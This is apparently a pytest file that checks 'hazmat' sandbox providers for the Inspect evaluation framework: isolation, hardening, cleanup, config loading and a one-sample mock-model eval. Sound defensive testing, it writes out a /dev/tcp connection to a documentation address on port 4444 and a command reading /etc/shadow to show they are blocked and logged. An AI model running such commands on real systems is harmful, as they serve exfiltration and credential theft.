"""hazmat's Inspect providers against Inspect's own sandbox self-check, real bubblewrap and
the real Docker daemon, plus a one-sample Inspect eval end to end on ``hazmat-local``.

Inspect's self-check (``inspect_ai.util._sandbox.self_check``) is a set of plain pytest
functions taking a ``sandbox_env`` fixture; the star import below pulls every one of them
into this module, and ``sandbox_env`` runs each against both providers. One sandbox per
provider is shared by the checks (as Inspect's own runner does); a check that cannot pass
is marked ``xfail(strict=True)`` here with its reason (also in ``docs/inspect.md``), so a
check that starts passing is noticed too.

Without inspect-ai (the ``inspect`` extra) the module is skipped, unless
``HAZMAT_REQUIRE_INSPECT=1``: then the import error fails it.

The eval test uses Inspect's ``mockllm/model`` with scripted outputs: no real model can
run on these machines, and the tool call it scripts runs for real in the sandbox.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

try:
    import inspect_ai  # noqa: F401
except ImportError:
    if os.environ.get("HAZMAT_REQUIRE_INSPECT") == "1":  # CI: these tests must run
        raise
    pytest.skip("needs the 'inspect' extra: pip install -e '.[inspect]'", allow_module_level=True)

from inspect_ai.util import SandboxEnvironment, SandboxEnvironmentSpec
from inspect_ai.util._sandbox import self_check
from inspect_ai.util._sandbox.self_check import *  # noqa: F403

from hazmat.errors import SpecError
from hazmat.sandbox.base import Hardening, SandboxSpec
from hazmat.sandbox.inspect import (
    DEFAULT_RUN_ID,
    HazmatDockerSandboxEnvironment,
    HazmatLocalSandboxEnvironment,
    HazmatSandboxConfig,
    HazmatSandboxEnvironment,
    load_config,
)

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(180)]

PROVIDERS: dict[str, type[HazmatSandboxEnvironment]] = {
    "local": HazmatLocalSandboxEnvironment,
    "docker": HazmatDockerSandboxEnvironment,
}

KNOWN_FAILURES: dict[str, dict[str, str]] = {
    "local": {
        "test_exec_as_user": "the local sandbox's /etc is synthesized and read-only: its users "
        "are root, agent and nobody, so adduser cannot add one",
    },
    "docker": {
        "test_exec_as_user": "the hardened box has a read-only root, so adduser cannot write "
        "/etc/passwd; with hardening.read_only_root=false the check passes "
        "(test_exec_as_user_with_a_writable_root)",
    },
}

SELF_CHECKS = sorted(name for name in dir(self_check) if name.startswith("test_"))


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    """Module scope, so one event loop serves the shared sandboxes and every check."""
    return "asyncio"


async def _start(
    provider: type[HazmatSandboxEnvironment], task: str, config: HazmatSandboxConfig | None
) -> SandboxEnvironment:
    await provider.task_init(task, config)
    envs = await provider.sample_init(task, config, {})
    assert list(envs) == ["default"]
    return envs["default"]


async def _finish(
    provider: type[HazmatSandboxEnvironment],
    task: str,
    config: HazmatSandboxConfig | None,
    env: SandboxEnvironment,
) -> None:
    await provider.sample_cleanup(task, config, {"default": env}, False)
    await provider.task_cleanup("shutdown", config, True)  # the name Inspect passes


def _docker_leftovers(run_id: str) -> list[str]:
    import docker

    client = docker.from_env()
    try:
        flt = {"label": [f"hazmat.run={run_id}"]}
        return [c.name for c in client.containers.list(all=True, filters=flt)] + [
            v.name for v in client.volumes.list(filters=flt)
        ]
    finally:
        client.close()


@pytest.fixture(
    scope="module",
    params=["local", pytest.param("docker", marks=pytest.mark.docker)],
)
async def provider_env(
    request: pytest.FixtureRequest,
) -> AsyncIterator[tuple[str, SandboxEnvironment]]:
    """One hazmat sandbox per provider, shared by the self-checks of that provider."""
    backend: str = request.param
    provider = PROVIDERS[backend]
    run_id = f"test-inspect-{uuid.uuid4().hex[:8]}"
    config = HazmatSandboxConfig(run_id=run_id)
    task = f"selfcheck-{backend}"
    env = await _start(provider, task, config)
    try:
        yield backend, env
    finally:
        await _finish(provider, task, config, env)
        if backend == "docker":
            assert _docker_leftovers(run_id) == []


@pytest.fixture
def sandbox_env(
    provider_env: tuple[str, SandboxEnvironment], request: pytest.FixtureRequest
) -> SandboxEnvironment:
    """The self-checks' fixture: the shared sandbox, with known failures marked xfail."""
    backend, env = provider_env
    reason = KNOWN_FAILURES[backend].get(request.node.originalname)
    if reason:
        request.applymarker(pytest.mark.xfail(reason=reason, strict=True))
    return env


def test_every_self_check_is_collected() -> None:
    """The star import brought Inspect's whole self-check here (44 in inspect-ai 0.3.285)."""
    here = sys.modules[__name__].__dict__
    assert SELF_CHECKS and all(callable(here.get(name)) for name in SELF_CHECKS)
    assert all(name in SELF_CHECKS for names in KNOWN_FAILURES.values() for name in names)


# beyond the self-check ----------------------------------------------------------------


@pytest.fixture
async def local_env() -> AsyncIterator[SandboxEnvironment]:
    env = await _start(HazmatLocalSandboxEnvironment, "t-local", None)
    try:
        yield env
    finally:
        await _finish(HazmatLocalSandboxEnvironment, "t-local", None, env)


async def test_commands_run_hardened_as_the_agent(local_env: SandboxEnvironment) -> None:
    """Inspect's commands run as hazmat's unprivileged agent, with no network and no
    host environment; root is the sandbox's root, not the host's."""
    who = await local_env.exec(["sh", "-c", "id -un; id -u; pwd; echo ${HOME}; env | wc -l"])
    name, uid, cwd, home, nenv = who.stdout.split()
    assert (name, uid, cwd, home) == ("agent", "1000", "/home/agent", "/home/agent")
    assert int(nenv) < 15  # a clean environment, not the host's
    root = await local_env.exec(["cat", "/proc/self/status"], user="root")
    assert "\nUid:\t0\t" in root.stdout
    secret = await local_env.exec(["sh", "-c", "cat /etc/shadow; ls /root"], timeout=10)
    assert not secret.success
    net = await local_env.exec(["tail", "-n", "+3", "/proc/net/dev"])
    assert [line.split(":")[0].strip() for line in net.stdout.splitlines()] == ["lo"]


async def test_sentinel_attempts_are_kept_and_exposed(local_env: SandboxEnvironment) -> None:
    """A connection attempt inside the sandbox (it never leaves: no route) is recorded by
    the network sentinel and returned by ``network_events()``."""
    hz = local_env.as_type(HazmatSandboxEnvironment)
    res = await local_env.exec(
        ["bash", "-c", "(echo x > /dev/tcp/203.0.113.9/4444) 2>/dev/null; echo tried"]
    )
    assert res.stdout == "tried\n"
    events = await hz.network_events()
    assert ("tcp", "203.0.113.9", 4444) in {
        (e.get("proto"), e.get("remote"), e.get("port")) for e in events
    }


async def test_large_write_in_pieces_and_output_limit(local_env: SandboxEnvironment) -> None:
    """A write over hazmat's per-request cap arrives whole; output over Inspect's limit
    raises OutputLimitExceededError with the head it kept."""
    from inspect_ai.util import OutputLimitExceededError
    from inspect_ai.util._sandbox.limits import override_max_exec_output_size

    payload = bytes(range(256)) * (70 * 4096 + 3)  # ~70 MiB: three pieces
    await local_env.write_file("big.bin", payload)
    digest = await local_env.exec(["sh", "-c", "sha256sum big.bin; stat -c %s big.bin"])
    import hashlib

    assert digest.stdout.split() == [
        hashlib.sha256(payload).hexdigest(),
        "big.bin",
        str(len(payload)),
    ]
    with override_max_exec_output_size(1024), pytest.raises(OutputLimitExceededError) as info:
        await local_env.exec(["head", "-c", "5000", "/dev/zero"])
    assert "1 KiB" in str(info.value) and info.value.truncated_output == "\0" * 1024
    await local_env.exec(["rm", "big.bin"])


async def test_an_unknown_user_is_a_failed_result_and_a_foreign_uid_unsupported(
    local_env: SandboxEnvironment,
) -> None:
    from inspect_ai.util import SandboxUserUnsupportedError

    nobody = await local_env.exec(["id", "-u"], user="nobody")
    assert nobody.stdout == "65534\n"
    ghost = await local_env.exec(["id"], user="ghost")
    assert not ghost.success and "ghost" in ghost.stderr
    with pytest.raises(SandboxUserUnsupportedError):
        await local_env.exec(["id"], user="70000")


async def test_inspect_sandbox_tools_run_in_the_local_sandbox(
    local_env: SandboxEnvironment,
) -> None:
    """Inspect injects its sandbox-tools server (used by ``exec_remote``, ``bash_session``,
    ``text_editor``) as the sandbox's root; the commands it runs are the agent's."""
    from inspect_ai.util._sandbox.events import SandboxEnvironmentProxy

    proxy = SandboxEnvironmentProxy(local_env)  # what an eval hands to tools
    res = await proxy.exec_remote(["sh", "-c", "id -u; hostname"], stream=False)
    assert res.success and res.stdout.split() == ["1000", "sandbox"], res


async def test_a_stopped_sandbox_is_unavailable() -> None:
    from inspect_ai.util import SandboxUnavailableError

    env = await _start(HazmatLocalSandboxEnvironment, "t-stopped", None)
    await _finish(HazmatLocalSandboxEnvironment, "t-stopped", None, env)
    with pytest.raises(SandboxUnavailableError):
        await env.exec(["true"])
    with pytest.raises(SandboxUnavailableError):
        await env.read_file("/etc/hostname")
    with pytest.raises(NotImplementedError):
        await env.connection()


async def test_a_spec_the_backend_cannot_run_fails_sample_init_cleanly() -> None:
    from hazmat.errors import SandboxStartError
    from hazmat.sandbox.base import ServiceSpec

    config = HazmatSandboxConfig(spec=SandboxSpec(services={"web": ServiceSpec()}))
    await HazmatLocalSandboxEnvironment.task_init("t-bad", config)
    with pytest.raises(SandboxStartError, match="needs docker"):
        await HazmatLocalSandboxEnvironment.sample_init("t-bad", config, {})
    assert not HazmatLocalSandboxEnvironment._live.get(("local", config))


async def test_task_cleanup_stops_what_sample_cleanup_missed() -> None:
    """Inspect calls ``task_cleanup("shutdown", config, ...)`` once per config at the end
    of a run: it stops the sandboxes of that config still alive, and only those."""
    from inspect_ai.util import SandboxUnavailableError

    other = HazmatSandboxConfig(spec=SandboxSpec(env={"OTHER": "1"}))
    missed = await _start(HazmatLocalSandboxEnvironment, "t-missed", None)
    kept = await _start(HazmatLocalSandboxEnvironment, "t-kept", other)
    try:
        assert (await missed.exec(["true"])).success
        await HazmatLocalSandboxEnvironment.task_cleanup("shutdown", None, True)
        with pytest.raises(SandboxUnavailableError):
            await missed.exec(["true"])
        assert (await kept.exec(["sh", "-c", "echo $OTHER"])).stdout == "1\n"
    finally:
        await _finish(HazmatLocalSandboxEnvironment, "t-kept", other, kept)


def test_config_from_yaml_task_yaml_and_log(tmp_path: Path) -> None:
    """A spec YAML, a task.yaml and a serialised config all give the same config; a bad
    one fails with the file named."""
    spec = tmp_path / "sandbox.yaml"
    spec.write_text("network: none\nenv: {GREETING: hi}\nfiles: {/tmp/a: x}\n")
    task = tmp_path / "task.yaml"
    task.write_text("id: x/y\nsandbox:\n  env: {GREETING: hi}\n  files: {/tmp/a: x}\n")
    both = {load_config(str(spec)), load_config(str(task))}
    assert len(both) == 1  # equal and hashable
    cfg = both.pop()
    assert cfg.spec.env == {"GREETING": "hi"} and cfg.run_id == DEFAULT_RUN_ID
    assert load_config(None) == HazmatSandboxConfig()
    dumped = SandboxEnvironmentSpec("hazmat-local", cfg).model_dump()
    assert SandboxEnvironmentSpec.model_validate(dumped).config == cfg  # via config_deserialize
    bad = tmp_path / "bad.yaml"
    bad.write_text("network: everywhere\n")
    with pytest.raises(SpecError, match=r"bad\.yaml.*network"):
        load_config(str(bad))
    with pytest.raises(SpecError, match="cannot read"):
        load_config(str(tmp_path / "missing.yaml"))


def test_providers_are_found_through_the_inspect_ai_entry_point(tmp_path: Path) -> None:
    """In a fresh interpreter, Inspect finds both providers through an ``inspect_ai``
    entry point naming ``hazmat.sandbox.inspect`` (the line pyproject gets), without
    anything importing the module first."""
    dist = tmp_path / "hazmat_entry_point_probe-0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: hazmat-entry-point-probe\nVersion: 0\n"
    )
    (dist / "entry_points.txt").write_text("[inspect_ai]\nhazmat = hazmat.sandbox.inspect\n")
    probe = textwrap.dedent(
        """
        import sys
        from inspect_ai.util._sandbox.registry import registry_find_sandboxenv
        assert "hazmat.sandbox.inspect" not in sys.modules
        print(registry_find_sandboxenv("hazmat-local").__name__)
        print(registry_find_sandboxenv("hazmat-docker").__name__)
        """
    )
    root = Path(__file__).resolve().parents[2]
    out = subprocess.run(
        [sys.executable, "-c", probe],
        env={"PYTHONPATH": f"{tmp_path}:{root}", "PATH": "/usr/bin:/bin"},
        cwd=root,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["HazmatLocalSandboxEnvironment", "HazmatDockerSandboxEnvironment"]


# docker beyond the self-check -----------------------------------------------------------


@pytest.fixture
def docker_run_id() -> Iterator[str]:
    run_id = f"test-inspect-{uuid.uuid4().hex[:8]}"
    yield run_id
    assert _docker_leftovers(run_id) == []


@pytest.mark.docker
async def test_exec_as_user_with_a_writable_root(docker_run_id: str) -> None:
    """The one self-check the hardened box fails passes once the spec loosens the root."""
    config = HazmatSandboxConfig(
        spec=SandboxSpec(hardening=Hardening(read_only_root=False)), run_id=docker_run_id
    )
    env = await _start(HazmatDockerSandboxEnvironment, "t-adduser", config)
    try:
        await self_check.test_exec_as_user(env)
    finally:
        await _finish(HazmatDockerSandboxEnvironment, "t-adduser", config, env)


@pytest.mark.docker
async def test_docker_sandbox_tools_need_a_writable_root(docker_run_id: str) -> None:
    """Inspect's sandbox tools unpack into /var/tmp, which the hardened box's read-only
    root refuses (a clear injection error); a spec that loosens the root runs them."""
    from inspect_ai.util._sandbox.events import SandboxEnvironmentProxy

    for read_only in (True, False):
        config = HazmatSandboxConfig(
            spec=SandboxSpec(hardening=Hardening(read_only_root=read_only)), run_id=docker_run_id
        )
        env = await _start(HazmatDockerSandboxEnvironment, "t-tools", config)
        try:
            proxy = SandboxEnvironmentProxy(env)
            if read_only:
                with pytest.raises(Exception, match="Read-only file system"):
                    await proxy.exec_remote(["id", "-u"], stream=False)
            else:
                res = await proxy.exec_remote(["id", "-u"], stream=False)
                assert res.success and res.stdout == "1000\n", res
        finally:
            await _finish(HazmatDockerSandboxEnvironment, "t-tools", config, env)


@pytest.mark.docker
async def test_docker_connection_and_hardening(docker_run_id: str) -> None:
    config = HazmatSandboxConfig(run_id=docker_run_id)
    env = await _start(HazmatDockerSandboxEnvironment, "t-conn", config)
    try:
        conn = await env.connection()
        box = env.as_type(HazmatSandboxEnvironment).hazmat.info()["container"]
        assert conn.command == f"docker exec -it --user agent {box} bash -l"
        assert conn.container == box
        caps = await env.exec(["sh", "-c", "grep CapEff /proc/self/status; id -un"])
        assert caps.stdout.split() == ["CapEff:", "0000000000000000", "agent"]
        ro = await env.exec(["touch", "/usr/x"], user="root")
        assert not ro.success and "Read-only" in ro.stderr
    finally:
        await _finish(HazmatDockerSandboxEnvironment, "t-conn", config, env)
    from inspect_ai.util import SandboxUnavailableError

    with pytest.raises((ConnectionError, SandboxUnavailableError)):
        await env.connection()


# an Inspect eval end to end ---------------------------------------------------------------


async def test_one_sample_eval_runs_end_to_end_on_hazmat_local(tmp_path: Path) -> None:
    """``inspect_ai.eval_async`` (in the test's event loop) with ``sandbox="hazmat-local"``:
    a scripted mockllm model calls Inspect's ``bash`` tool, which runs in the hazmat
    sandbox (uid 1000, hostname ``sandbox``) and sees the sample's file and what its
    setup script wrote; the scorer reads the file the tool wrote through the sandbox;
    the sentinel's record of the tool's connection attempt is in the sample's transcript."""
    from inspect_ai import Task, eval_async
    from inspect_ai.dataset import Sample
    from inspect_ai.model import ModelOutput, ModelUsage, get_model
    from inspect_ai.scorer import CORRECT, INCORRECT, Score, Target, accuracy, scorer
    from inspect_ai.solver import TaskState, generate, use_tools
    from inspect_ai.tool import bash
    from inspect_ai.util import sandbox

    proof = f"proof-{uuid.uuid4().hex[:8]}.txt"
    command = (
        f'echo "$(id -u):$(hostname):$(pwd)" > {proof}; '
        "(echo x > /dev/tcp/203.0.113.9/4444) 2>/dev/null; "
        f"cat {proof} data/input.txt /tmp/setup.txt"
    )

    @scorer(metrics=[accuracy()])
    def wrote_proof() -> Any:
        async def score(state: TaskState, target: Target) -> Score:
            env = sandbox()
            text = await env.read_file(proof)
            kind = type(env.as_type(HazmatSandboxEnvironment)).__name__
            ok = text == target.text and kind == "HazmatLocalSandboxEnvironment"
            return Score(value=CORRECT if ok else INCORRECT, answer=text, explanation=kind)

        return score

    outputs = [
        ModelOutput.for_tool_call("mockllm/model", "bash", {"command": command}),
        ModelOutput.from_content("mockllm/model", "done"),
    ]
    for output in outputs:  # given usage, mockllm counts no tokens (tiktoken would download)
        output.usage = ModelUsage(input_tokens=1, output_tokens=1, total_tokens=2)
    model = get_model("mockllm/model", custom_outputs=outputs)
    task = Task(
        dataset=[
            Sample(
                input="Prove where you run.",
                target="1000:sandbox:/home/agent\n",
                files={"data/input.txt": "sample file\n"},  # written by Inspect via write_file
                setup="echo setup ran as $(id -un) > /tmp/setup.txt",  # run by Inspect via exec
            )
        ],
        solver=[use_tools(bash(timeout=30)), generate()],
        scorer=wrote_proof(),
        sandbox="hazmat-local",
    )
    [log] = await eval_async(task, model=model, log_dir=str(tmp_path / "logs"))
    assert log.status == "success", log.error
    assert log.samples is not None
    sample = log.samples[0]
    assert sample.scores is not None
    assert sample.scores["wrote_proof"].value == CORRECT, sample.scores["wrote_proof"]
    tool_msgs = [m for m in sample.messages if m.role == "tool"]
    assert [m.text for m in tool_msgs] == [
        "1000:sandbox:/home/agent\nsample file\nsetup ran as agent\n"
    ]
    assert not (Path("/home/agent") / proof).exists()  # it ran in the sandbox, not here
    facts = [
        e for e in sample.events if e.event == "info" and getattr(e, "source", None) == "hazmat"
    ]
    assert [e.data["hazmat_sandbox"]["backend"] for e in facts] == ["local"]  # type: ignore[union-attr,index,call-overload]
    network = [
        e
        for e in sample.events
        if e.event == "info" and getattr(e, "source", None) == "hazmat-sentinel"
    ]
    seen = [ev for e in network for ev in e.data["network_events"]]  # type: ignore[union-attr,index]
    assert any(ev.get("remote") == "203.0.113.9" and ev.get("port") == 4444 for ev in seen)
